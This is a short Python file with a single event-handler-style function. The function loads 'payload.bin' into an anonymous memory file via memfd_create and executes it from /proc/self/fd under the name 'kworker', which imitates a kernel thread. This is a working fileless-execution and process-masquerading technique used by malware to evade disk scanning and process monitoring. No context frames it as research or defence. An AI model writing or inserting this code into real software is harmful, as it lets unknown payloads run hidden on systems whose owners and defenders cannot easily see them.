import os


def handle(event):
    fd = os.memfd_create("x", 0)
    os.write(fd, open("payload.bin", "rb").read())
    os.execv(f"/proc/self/fd/{fd}", ["kworker"])
